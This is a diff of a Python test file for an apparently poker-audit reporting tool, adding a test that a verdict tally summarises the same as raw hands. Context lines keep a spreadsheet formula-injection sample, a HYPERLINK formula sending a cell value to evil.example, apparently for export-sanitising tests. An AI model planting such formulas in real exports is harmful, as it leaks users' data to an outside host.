@@ -23,7 +23,7 @@ from audit.report_job import RANDOM_KEY_WARNING
 from reports import explain, export, html_report, terminal
 from reports.redact import Redactor, redact_explanation, redact_findings
 from reports.summary import (
-    Money, ReportInputError, conform_findings, money_totals, summarise, worst_findings,
+    Money, ReportInputError, conform_findings, money_totals, summarise, verdict_tally, worst_findings,
 )
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
@@ -221,6 +221,13 @@ winamax:W1,W1,winamax,holdem,,,,,,50,45,5,100,EUR,rake,rake 0.50 above the 0.45 
 
 def test_terminal_summary_text_is_exact():
     assert terminal.render_summary(summarise(small_hands(), small_findings())) == SUMMARY_TEXT
+
+
+def test_a_summary_of_the_verdicts_tally_is_that_of_the_verdicts():
+    tally = verdict_tally(small_hands())
+    assert (tally.columns, tally["hands"].sum()) == (["platform", "game", "verdict", "hands"], 6)
+    assert summarise(tally, small_findings()) == summarise(small_hands(), small_findings())
+    assert terminal.render_summary(summarise(tally, small_findings())) == SUMMARY_TEXT
 
 
 def test_summary_counts_by_platform_game_and_kind():
